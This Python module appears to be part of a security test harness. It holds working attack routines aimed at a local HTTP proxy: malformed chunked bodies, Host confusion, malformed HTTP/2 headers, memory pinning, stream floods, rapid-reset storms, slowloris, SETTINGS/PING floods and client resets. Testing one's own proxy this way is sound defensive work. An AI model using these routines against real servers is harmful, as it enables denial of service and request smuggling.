"""The attacks of issue #22, each an async function of a Target that returns, per case, what the
attacker got and what reached the upstream. Raw sockets and hand-written HTTP/2 frames
(h2frames): the point is to send what a polite client library would refuse to."""

import asyncio
import collections
import json
import socket
import struct
import time

from . import h2frames as f
from . import tools

MIB = 1 << 20


class Target:
    """One proxy under attack: its HTTP/1.1 and h2c ports (both in front of the counting
    upstream), its process, and the upstream's control port."""

    def __init__(self, peer, h1, h2c, pid, upstream_port):
        self.peer, self.h1, self.h2c, self.pid, self.upstream_port = peer, h1, h2c, pid, upstream_port

    async def upstream(self, path="/__counts"):
        reader, writer = await asyncio.open_connection("127.0.0.1", self.upstream_port)
        writer.write(f"GET {path} HTTP/1.1\r\nHost: control\r\n\r\n".encode())
        head = await reader.readuntil(b"\r\n\r\n")
        length = int(next(line.split(b":")[1] for line in head.split(b"\r\n")
                          if line.lower().startswith(b"content-length")))
        body = await reader.readexactly(length)
        writer.close()
        return json.loads(body) if path == "/__counts" else None

    async def reached(self, settle=0.5):
        """What reached the upstream since its last reset (after letting late arrivals land)."""
        await asyncio.sleep(settle)
        return await self.upstream()


def started(counts, path):
    return counts["paths"].get(path, {}).get("started", 0)


def forwarded(counts, case):
    """What the upstream got for one case (its x-case header), in a few words."""
    got = [r for r in counts["records"] if r.get("case") == case]
    if not got:
        return "nothing"
    out = []
    for r in got:
        if r["proto"] == "h1":
            body = f", body {r['body']} B" if r["method"] == "POST" else ""
            out.append(f"{r['method']} {r['target']} Host {'+'.join(r['host']) or '(none)'}{body}, "
                       f"{r['ended']}")
        else:
            head = " ".join(f"{k}={v}" for k, v in r["head"].items() if k.startswith(":"))
            out.append(f"{head}, {r['ended']}")
    return "; ".join(out)


# 1, 2: HTTP/1.1 ------------------------------------------------------------------------------

async def h1_exchange(port, request, follow_up=None, bound=10.0):
    """Sends request (then follow_up on the same connection once answered); returns the first
    answer's status, the follow-up's, and when the proxy closed the connection."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    start = time.monotonic()
    out = {"status": "none"}
    if follow_up is not None:
        out["next request"] = "not sent: closed"
    try:
        writer.write(request)
        await writer.drain()
    except ConnectionError:
        pass  # refused while we were still writing: its answer may be there to read
    try:
        out["status"] = await asyncio.wait_for(read_response(reader), bound)
    except asyncio.TimeoutError:
        pass
    except (ConnectionError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
        out["status"] = "closed without answer"
    if follow_up is not None and not reader.at_eof():
        try:
            writer.write(follow_up)
            out["next request"] = await asyncio.wait_for(read_response(reader), 3)
        except asyncio.TimeoutError:
            out["next request"] = "no answer in 3 s"
        except (ConnectionError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            out["next request"] = "closed without answer"
    try:
        while await asyncio.wait_for(reader.read(65536), max(0.1, bound - (time.monotonic() - start))):
            pass
        out["closed after (s)"] = round(time.monotonic() - start, 2)
    except asyncio.TimeoutError:
        out["closed after (s)"] = f"open at {bound:.0f} s"
    except ConnectionError:
        out["closed after (s)"] = round(time.monotonic() - start, 2)
    writer.close()
    return out


async def read_response(reader):
    """The status of one response, with ', close' when it says Connection: close."""
    head = await reader.readuntil(b"\r\n\r\n")
    status = head.split(b" ", 2)[1].decode()
    lines = [line.lower().replace(b" ", b"") for line in head.split(b"\r\n")]
    length = next((int(line.split(b":")[1]) for line in lines if line.startswith(b"content-length:")), 0)
    await reader.readexactly(length)
    return status + (", close" if b"connection:close" in lines else "")


CHUNKED = {
    "hex overflow": b"100000000000000003\r\nabc\r\n0\r\n\r\n",
    "-1": b"-1\r\nabc\r\n0\r\n\r\n",
    "0x3": b"0x3\r\nabc\r\n0\r\n\r\n",
    "zz": b"zz\r\nabc\r\n0\r\n\r\n",
    "64 KiB extension": b"3;ext=" + b"e" * 65536 + b"\r\nabc\r\n0\r\n\r\n",
    "data longer than size": b"3\r\nabcdef\r\n0\r\n\r\n",
}


async def malformed_chunked(t):
    """(1) Chunked POSTs with a size line that cannot be read, or more data than the size says,
    then a GET on the same connection."""
    await t.upstream("/__reset")
    out = {}
    for case, body in CHUNKED.items():
        head = (f"POST /chunk HTTP/1.1\r\nHost: attack.test\r\nx-case: {case}\r\n"
                "Transfer-Encoding: chunked\r\n\r\n").encode()
        follow = f"GET /chunk-next HTTP/1.1\r\nHost: attack.test\r\nx-case: {case} (next)\r\n\r\n".encode()
        out[case] = await h1_exchange(t.h1, head + body, follow)
    counts = await t.reached()
    for case in CHUNKED:
        out[case]["reached upstream"] = forwarded(counts, case)
    return out


HOSTS = {
    "absolute-form, other Host": b"GET http://public.example/host HTTP/1.1\r\nHost: internal.example\r\n",
    "two Host fields": b"GET /host HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\n",
    "absolute-form, same Host (control)": b"GET http://public.example/host HTTP/1.1\r\nHost: public.example\r\n",
}


async def host_confusion(t):
    """(2) Which authority the upstream gets when the request names two."""
    await t.upstream("/__reset")
    out = {}
    for case, head in HOSTS.items():
        out[case] = await h1_exchange(t.h1, head + f"x-case: {case}\r\n\r\n".encode(), bound=5)
    counts = await t.reached()
    for case in HOSTS:
        out[case]["reached upstream"] = forwarded(counts, case)
    return out


# 3, 4, 5: HTTP/2 requests --------------------------------------------------------------------

MALFORMED_H2 = {
    "no :method": [(":scheme", "http"), (":path", "/h2bad"), (":authority", "attack.test")],
    "no :scheme": [(":method", "GET"), (":path", "/h2bad"), (":authority", "attack.test")],
    ":path without /": [(":method", "GET"), (":scheme", "http"), (":path", "h2/noslash"),
                        (":authority", "attack.test")],
    "no :path": [(":method", "GET"), (":scheme", "http"), (":authority", "attack.test")],
}


async def malformed_h2(t, bound=10.0):
    """(3) A malformed request on stream 3 while stream 1 downloads 1 MiB (read at a normal
    client's pace: every DATA frame acknowledged with WINDOW_UPDATE)."""
    await t.upstream("/__reset")
    out = {}
    for case, fields in MALFORMED_H2.items():
        reader, writer = await asyncio.open_connection("127.0.0.1", t.h2c)
        frames = f.FrameReader(reader, writer)
        writer.write(f.client_start() + f.get(1, "/1m"))
        row = {"answer": "none", "connection": "kept"}
        received, sent_bad, ended3, seen = 0, False, False, []  # seen: stream 3's frames in order
        deadline = time.monotonic() + bound
        try:
            while True:
                got = await asyncio.wait_for(frames.next(), deadline - time.monotonic())
                if got is None:
                    row["connection"] = "closed" if row["connection"] == "kept" else row["connection"]
                    break
                kind, flags, stream, payload = got
                if kind == f.DATA and stream == 1:
                    received += len(payload)
                    if not sent_bad:  # the download is under way: now the malformed request
                        writer.write(f.headers(3, [*fields, ("x-case", case)]))
                        sent_bad = True
                    if payload:
                        writer.write(f.window_update(1, len(payload)) + f.window_update(0, len(payload)))
                elif stream == 3 and kind in (f.HEADERS, f.DATA, f.RST_STREAM):
                    seen.append(f"HEADERS {payload.get(':status')}" if kind == f.HEADERS
                                else f"DATA {len(payload)} B{' END_STREAM' if flags & f.END_STREAM else ''}"
                                if kind == f.DATA
                                else f"RST_STREAM {f.error_name(payload)}")
                    ended3 = ended3 or kind == f.RST_STREAM or bool(flags & f.END_STREAM)
                elif kind == f.GOAWAY:
                    row["connection"] = f"GOAWAY {f.error_name(payload)}"
                if received >= MIB and ended3:  # both done: a reset after the answer comes at once
                    deadline = min(deadline, time.monotonic() + 0.3)
        except asyncio.TimeoutError:
            seen += [] if ended3 else [f"nothing more in {bound:.0f} s"]
        row["answer"] = " → ".join(seen) or row["answer"]
        row["other stream"] = "complete (1 MiB)" if received >= MIB else f"cut at {received // 1024} KiB"
        writer.close()
        out[case] = row
    counts = await t.reached()
    for case in MALFORMED_H2:
        out[case]["reached upstream"] = forwarded(counts, case)
    return out


async def h2_connect(port, initial_window=None, connection_window=None):
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(f.client_start(initial_window, connection_window))
    return reader, writer, f.FrameReader(reader, writer)


async def server_settings(frames, seconds=5.0):
    """The server's first SETTINGS (read before anything else arrives)."""
    got = await asyncio.wait_for(frames.next(), seconds)
    return f.settings_values(got[3]) if got and got[0] == f.SETTINGS else {}


class StreamTally:
    """What one connection's frames said about its streams."""

    def __init__(self):
        self.answered, self.ended, self.data = 0, 0, 0
        self.resets = collections.Counter()
        self.goaway = None

    def take(self, got):
        kind, flags, stream, payload = got
        if kind == f.HEADERS and ":status" in payload:
            self.answered += 1
        if kind == f.DATA:
            self.data += len(payload)
        if kind in (f.DATA, f.HEADERS) and flags & f.END_STREAM:
            self.ended += 1
        elif kind == f.RST_STREAM:
            self.resets[f.error_name(payload)] += 1
        elif kind == f.GOAWAY:
            self.goaway = f"GOAWAY {f.error_name(payload)} (last stream {int.from_bytes(payload[:4], 'big')})"


def resets_text(counter):
    return ", ".join(f"{n} {code}" for code, n in counter.most_common()) or "none"


PIN_CONNECTIONS, PIN_HOLD = 5, 10.0


async def memory_pinning(t):
    """(4) 5 connections x the advertised stream limit, each stream asking 1 MiB; the default
    65,535-byte windows, never a WINDOW_UPDATE; held 10 s, then the attacker leaves."""
    await t.upstream("/__reset")
    tallies, writers, readers = [], [], []
    limits = []
    for _ in range(PIN_CONNECTIONS):
        reader, writer, frames = await h2_connect(t.h2c)
        limit = (await server_settings(frames)).get(f.MAX_CONCURRENT_STREAMS, 1000)
        limits.append(limit)
        writer.write(b"".join(f.get(2 * i + 1, "/1m") for i in range(min(limit, 1000))))
        tally = StreamTally()
        tallies.append(tally)
        writers.append(writer)
        readers.append(asyncio.create_task(read_all(frames, tally)))  # read, never open windows
    await asyncio.sleep(PIN_HOLD)
    for w in writers:
        w.close()
    for r in readers:
        r.cancel()
    counts = await t.reached(1.0)
    up = counts["paths"].get("/1m", {})
    return {"": {"streams opened": sum(min(limit, 1000) for limit in limits),
                 "answered (HEADERS)": sum(x.answered for x in tallies),
                 "reset by the proxy": resets_text(sum((x.resets for x in tallies), collections.Counter())),
                 "GOAWAY": "; ".join(sorted({x.goaway for x in tallies if x.goaway})) or "none",
                 "attacker got (KiB)": sum(x.data for x in tallies) // 1024,
                 "upstream streams": up.get("started", 0),
                 "pulled from upstream (MiB)": round(up.get("bytes sent", 0) / MIB, 1),
                 "upstream streams reset": up.get("reset by proxy", 0)}}


async def read_all(frames, tally, until=None):
    while True:
        got = await frames.next()
        if got is None:
            return "closed"
        tally.take(got)
        if until and until(got):
            return "done"


async def concurrent_streams(t, streams=1000, bound=10.0):
    """(5) 1,000 GETs opened in one write on one connection, before the server's SETTINGS."""
    await t.upstream("/__reset")
    reader, writer, frames = await h2_connect(t.h2c, 1 << 20, 1 << 30)
    writer.write(b"".join(f.get(2 * i + 1, "/small") for i in range(streams)))
    tally = StreamTally()
    try:
        ending = await asyncio.wait_for(
            read_all(frames, tally, lambda got: tally.ended + sum(tally.resets.values()) >= streams), bound)
    except asyncio.TimeoutError:
        ending = "timeout"
    kept = "closed"
    if ending != "closed":
        writer.write(f.ping(b"stillok!"))
        try:
            await asyncio.wait_for(read_all(frames, tally, lambda got: got[0] == f.PING and got[1] & f.ACK), 3)
            kept = "kept"
        except asyncio.TimeoutError:
            kept = "no PING answer in 3 s"
    writer.close()
    counts = await t.reached()
    return {"": {"served": tally.ended, "refused / reset": resets_text(tally.resets),
                 "unanswered": streams - tally.ended - sum(tally.resets.values()),
                 "connection": kept + (f" ({tally.goaway})" if tally.goaway else ""),
                 "reached upstream": started(counts, "/small")}}


RR_CONNECTIONS, RR_STREAMS, RR_PARALLEL, RR_BOUND = 1000, 100, 50, 30.0
RR_LATE_CONNECTIONS, RR_LATE_PARALLEL = 200, 20
RR_CASES = ("HEADERS+RST in one write", "RST once the HEADERS were read (1 MiB)")


async def rapid_reset(t):
    """(6) Rapid reset under the per-connection limit (100 resets per connection, the limit is
    more): 1,000 connections each sending 100 HEADERS + RST_STREAM(CANCEL) pairs in one write;
    then 200 connections whose resets come only after the proxy read their 100 HEADERS (a PING
    answered says it did), each stream asking 1 MiB. A PING after the resets, answered, ends a
    connection (or 5 s)."""
    await t.upstream("/__reset")
    pairs = b"".join(f.get(2 * i + 1, "/rr") + f.rst(2 * i + 1) for i in range(RR_STREAMS))
    gets = b"".join(f.get(2 * i + 1, "/1m-late") for i in range(RR_STREAMS))
    resets = b"".join(f.rst(2 * i + 1) for i in range(RR_STREAMS))

    async def same_write(writer, frames, tally):
        writer.write(pairs)

    async def after_read(writer, frames, tally):
        writer.write(gets + f.ping(b"headers!"))
        await read_all(frames, tally, lambda got: got[0] == f.PING and got[1] & f.ACK)
        writer.write(resets)

    out = {}
    for case, connections, parallel, send, path in (
            (RR_CASES[0], RR_CONNECTIONS, RR_PARALLEL, same_write, "/rr"),
            (RR_CASES[1], RR_LATE_CONNECTIONS,
             RR_LATE_PARALLEL, after_read, "/1m-late")):
        out[case] = await reset_storm(t, connections, parallel, send)
        counts = await t.reached(2.0)
        up = counts["paths"].get(path, {})
        out[case].update({"reached upstream": up.get("started", 0),
                          "reset at upstream": up.get("reset by proxy", 0),
                          "upstream connection closed under them": up.get("cut by close", 0),
                          "pulled from upstream (MiB)": round(up.get("bytes sent", 0) / MIB, 1)})
        await t.upstream("/__reset")
    return out


async def reset_storm(t, connections, parallel, send):
    goaways, done = collections.Counter(), [0]
    start = time.monotonic()

    async def one():
        reader, writer, frames = await h2_connect(t.h2c)
        tally = StreamTally()
        try:
            await asyncio.wait_for(send(writer, frames, tally), 5)
            writer.write(f.ping(b"rr-done!"))
            await asyncio.wait_for(read_all(frames, tally, lambda got: got[0] == f.PING and got[1] & f.ACK), 5)
        except asyncio.TimeoutError:
            pass
        goaways[tally.goaway or "none"] += 1
        writer.close()
        done[0] += 1

    async def worker(slots):
        while slots and time.monotonic() - start < RR_BOUND:
            slots.pop()
            try:
                await one()
            except OSError:
                goaways["connect failed"] += 1

    slots = list(range(connections))
    await asyncio.gather(*(worker(slots) for _ in range(parallel)))
    return {"connections": done[0], "streams sent": done[0] * RR_STREAMS,
            "sent in (s)": round(time.monotonic() - start, 1),
            "GOAWAY": ", ".join(f"{n} {g}" for g, n in goaways.most_common())}


# 7, 8, 10: connections -----------------------------------------------------------------------

SLOW_BOUND, DRIP_SECONDS = 45.0, 3.0
SLOW_GROUPS = {  # group: (connections, what is sent first, drip one more header byte?)
    "slowloris (a header byte every 3 s)": (2000, b"GET /slow HTTP/1.1\r\nHost: attack.test\r\nX-Drip: ", True),
    "idle (nothing sent)": (50, b"", False),
    "half-sent head": (50, b"GET /half HTTP/1.1\r\nHost: att", False),
    "half-sent body (head complete)": (50, b"POST /halfbody HTTP/1.1\r\nHost: attack.test\r\n"
                                           b"Content-Length: 100\r\n\r\n0123456789", False),
}


async def slowloris(t):
    """(7) Connections that never finish their request, held until the proxy closes them or the
    bound: when each closed, with what answer."""
    await t.upstream("/__reset")
    results = {group: [] for group in SLOW_GROUPS}
    start = time.monotonic()

    async def hold(group, first, drip):
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", t.h1)
        except OSError:
            results[group].append(("connect failed", None))
            return
        opened, answer = time.monotonic(), b""
        if first:
            writer.write(first)
        try:
            while time.monotonic() - start < SLOW_BOUND:
                try:
                    data = await asyncio.wait_for(reader.read(4096), DRIP_SECONDS)
                except asyncio.TimeoutError:
                    if drip:
                        writer.write(b"x")
                    continue
                if not data:
                    break
                answer += data
            else:
                results[group].append(("open", None))
                return
        except ConnectionError:
            pass
        finally:
            writer.close()
        status = answer.split(b" ", 2)[1].decode() if answer.startswith(b"HTTP/") else "closed without answer"
        results[group].append((status, time.monotonic() - opened))

    tasks = []
    for group, (count, first, drip) in SLOW_GROUPS.items():
        for i in range(count):
            tasks.append(asyncio.create_task(hold(group, first, drip)))
            if i % 200 == 199:
                await asyncio.sleep(0.05)  # no accept-queue overflow
    await asyncio.gather(*tasks)
    counts = await t.reached()
    out = {}
    for group, got in results.items():
        closed = sorted(s for _, s in got if s is not None)
        answers = collections.Counter(a for a, _ in got)
        out[group] = {"connections": len(got),
                      "answers": ", ".join(f"{n} {a}" for a, n in answers.most_common()),
                      "closed after, median (s)": round(closed[len(closed) // 2], 1) if closed else "—",
                      "closed after, max (s)": round(closed[-1], 1) if closed else "—",
                      f"open at {SLOW_BOUND:.0f} s": answers.get("open", 0)}
    out["half-sent body (head complete)"]["reached upstream"] = forwarded_paths(counts, "/halfbody")
    out["slowloris (a header byte every 3 s)"]["reached upstream"] = forwarded_paths(counts, "/slow")
    return out


def forwarded_paths(counts, path):
    p = counts["paths"].get(path)
    return f"{p['started']} started, {p['body cut']} cut" if p else "nothing"


FLOOD_SECONDS = 10.0
FLOODS = {"SETTINGS flood": f.settings(), "PING flood": f.ping(b"floodme!")}


async def control_floods(t):
    """(8) A client that sends SETTINGS (then PING) frames as fast as the proxy takes them and
    never reads the ACKs, for 10 s: what the proxy took, its CPU, when it cut or stopped reading."""
    out = {}
    for case, one in FLOODS.items():
        reader, writer = await asyncio.open_connection("127.0.0.1", t.h2c)
        writer.transport.set_write_buffer_limits(high=1 << 16)
        batch = one * (65536 // len(one))
        sent, stalled_at, cut_at = 0, None, None
        cpu0 = tools.cpu_seconds(t.pid)
        start = time.monotonic()
        writer.write(f.client_start())
        while time.monotonic() - start < FLOOD_SECONDS:
            try:
                writer.write(batch)
                sent += len(batch)
                await asyncio.wait_for(writer.drain(), 1.0)
            except asyncio.TimeoutError:
                stalled_at = stalled_at or time.monotonic() - start  # the proxy stopped reading
            except (ConnectionError, RuntimeError):
                cut_at = time.monotonic() - start
                break
            if writer.transport.is_closing():
                cut_at = time.monotonic() - start
                break
        cpu, elapsed = tools.cpu_seconds(t.pid) - cpu0, time.monotonic() - start
        tally, acks = StreamTally(), [0]

        def count(got):
            acks[0] += got[0] in (f.SETTINGS, f.PING) and bool(got[1] & f.ACK)
            return False
        try:
            ending = await asyncio.wait_for(read_all(f.FrameReader(reader), tally, count), 3)
        except asyncio.TimeoutError:
            ending = "open"
        writer.transport.abort()
        out[case] = {"frames written": sent // len(one),
                     "proxy CPU (s)": round(cpu, 2),
                     "proxy CPU (% of a core)": round(100 * cpu / elapsed, 1),
                     "stopped reading at (s)": round(stalled_at, 1) if stalled_at else "never",
                     "cut at (s)": round(cut_at, 1) if cut_at else f"not in {FLOOD_SECONDS:.0f} s",
                     "ACKs read after": acks[0], "GOAWAY": tally.goaway or "none",
                     "connection at the end": ending}
    return out


RESETS = 200


async def client_resets(t):
    """(10) 200 h2c connections, each reset by the client (SO_LINGER 0) while a 1 MiB response
    is under way: the log lines it costs are counted by the runner."""
    await t.upstream("/__reset")
    done = 0
    for _ in range(RESETS):
        reader, writer, frames = await h2_connect(t.h2c)
        writer.write(f.get(1, "/1m"))
        try:
            await asyncio.wait_for(read_all(frames, StreamTally(), lambda got: got[0] == f.DATA), 5)
        except asyncio.TimeoutError:
            pass
        sock = writer.get_extra_info("socket")
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        writer.transport.abort()
        done += 1
    counts = await t.reached()
    up = counts["paths"].get("/1m", {})
    return {"": {"connections reset": done, "upstream streams": up.get("started", 0),
                 "upstream streams reset": up.get("reset by proxy", 0)}}
